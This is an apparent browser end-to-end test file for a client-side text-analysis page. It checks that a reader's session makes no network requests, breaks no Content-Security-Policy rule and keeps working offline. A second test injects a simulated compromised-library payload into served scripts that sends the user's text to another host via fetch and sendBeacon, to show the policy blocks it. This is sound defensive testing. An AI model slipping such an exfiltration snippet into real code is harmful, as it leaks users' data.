// One reader's whole way through the page: nothing is asked for, nothing is refused by the policy, and
// all of it works when the host is gone. And what neither the page nor its worker can do.

import assert from 'node:assert/strict';
import { describe, it } from 'node:test';

import { ARTICLE } from './articles.mjs';
import { BROWSERS } from './browsers.mjs';
import { analysed, clipboardText, copy, ENGINE_CALL, paste, press, start, violationsOf } from './rig.mjs';
import { serve } from './server.mjs';

for (const name of BROWSERS) {
  describe(`a journey in ${name}`, () => {
    it('asks for nothing, breaks no policy, and goes on when the host is gone', async () => {
      const rig = await start(name);
      try {
        const { page, faults } = await rig.open();
        const click = (/** @type {string} */ selector) => page.evaluate((s) => /** @type {HTMLElement} */ (document.querySelector(s)).click(), selector);
        await page.click('#sample');
        await analysed(page);
        const asked = rig.server.requests.length;
        const early = await page.$$eval('link', (all) => all.map((l) => l.rel).filter((rel) => /pre(?:fetch|connect|load|render)/u.test(rel)));
        assert.deepEqual(early, []);

        // Away, and back again.
        const text = await page.$eval('#article', (e) => e.textContent);
        await page.click('#clear');
        assert.equal(await page.$eval('#article', (e) => e.checkVisibility()), false);
        await page.click('#undo');
        await analysed(page);
        assert.equal(await page.$eval('#article', (e) => e.textContent), text);

        await paste(page, { text: ARTICLE });
        await analysed(page);
        for (const selector of ['.legend [data-kind=person]', '.legend [data-kind=person]', '#only', '#only', '#tags', '.voice summary', 'button.spot', '.quotelight-q[data-first]', '#card .fixes summary']) {
          await click(selector);
        }
        await page.select('#card .fixes select', 'mixed');
        await click('#unfix');
        await click('#refix');
        await page.$eval('#day', (e) => {
          /** @type {HTMLInputElement} */ (e).value = '2024-03-05';
          e.dispatchEvent(new Event('change', { bubbles: true }));
        });
        await analysed(page);

        await copy(page, { text: '' }); // lets the page use the clipboard
        await click('#share');
        await page.waitForSelector('#out[open] input');
        const copies = (await page.$$('#out .formats li')).length;
        for (let i = 1; i <= copies; i++) {
          await page.$eval('#out [role=status]', (e) => e.replaceChildren());
          await page.click(`#out .formats li:nth-child(${i}) button`);
          await page.waitForFunction(() => document.querySelector('#out [role=status]')?.textContent === 'Copied.');
          assert.ok((await clipboardText(page)).length > 40, `format ${i}`);
        }
        assert.match(await page.$eval('#out input', (e) => /** @type {HTMLInputElement} */ (e).value), /^http.+#t=/u);
        await click('#out .close');
        await click('#about-open');
        await click('#about .close');
        await click('#compare');
        await page.$eval('#other', (e, other) => { /** @type {HTMLTextAreaElement} */ (e).value = other; }, ARTICLE);
        await click('#versus .primary');
        await page.waitForSelector('#versus .versus');
        await click('#versus .close');
        await click('#edit');
        await press(page, 'Control', 'End');
        await page.keyboard.type('“It is late,” said Tom Reed.');
        await click('#read');
        await page.waitForFunction(() => document.querySelector('.quotes')?.textContent?.includes('It is late'));

        assert.deepEqual(rig.server.requests.slice(asked), [], 'requests');
        // Chromium parses what is written to the clipboard as HTML, and reports the styles in it.
        assert.deepEqual((await violationsOf(page)).filter((v) => v !== 'style-src-attr inline'), [], 'violations of the policy');
        assert.deepEqual(faults.filter((f) => !f.includes('inline style')), []);

        await rig.server.close();
        await paste(page, { text: `${ARTICLE}\n“Nobody answers,” said Ann Lee.` });
        await page.waitForFunction(() => document.querySelector('.quotes')?.textContent?.includes('Nobody answers'));
      } finally {
        await rig.close();
      }
    });

    it('lets neither the page nor its worker talk to another host', async () => {
      const other = await serve('.');
      // A library gone bad: it sends every text away before it is analysed, wherever that is.
      const leak = `(fetch(\`${other.url}leak?\`+encodeURIComponent($2.slice(0,50))).catch(()=>{}),navigator.sendBeacon?.(\`${other.url}leak\`,$2),$&)`;
      const spoilt = (/** @type {string} */ path, /** @type {Buffer} */ bytes) => (path.endsWith('.js') ? bytes.toString().replace(ENGINE_CALL, leak) : bytes);
      const rig = await start(name, { change: spoilt });
      const unprotected = await start(name, {
        change: (path, bytes) => (path.endsWith('.html') ? bytes.toString().replace(/<meta http-equiv="Content-Security-Policy"[^>]*>/u, '') : spoilt(path, bytes)),
      });
      try {
        const { page } = await rig.open();
        await page.click('#sample');
        await analysed(page);
        await page.evaluate((url) => {
          navigator.sendBeacon(`${url}leak`, 'text');
          new Image().src = `${url}leak`;
          document.body.append(Object.assign(document.createElement('iframe'), { src: `${url}leak` }));
        }, other.url);
        await page.evaluate(() => new Promise((resolve) => setTimeout(resolve, 500)));
        assert.deepEqual(other.requests, [], 'the other host saw nothing');
        assert.ok((await violationsOf(page)).length >= 2, 'the browser refused it');
        assert.ok((await page.$$('.quotes li')).length >= 5, 'and the text was analysed');
        // It is the policy that stops it.
        const without = await unprotected.open();
        await without.page.click('#sample');
        await analysed(without.page);
        await without.page.evaluate(() => new Promise((resolve) => setTimeout(resolve, 500)));
        assert.ok(other.requests.some((r) => r.startsWith('GET /leak?')), 'without it, the other host sees the text');
      } finally {
        await rig.close();
        await unprotected.close();
        await other.close();
      }
    });
  });
}
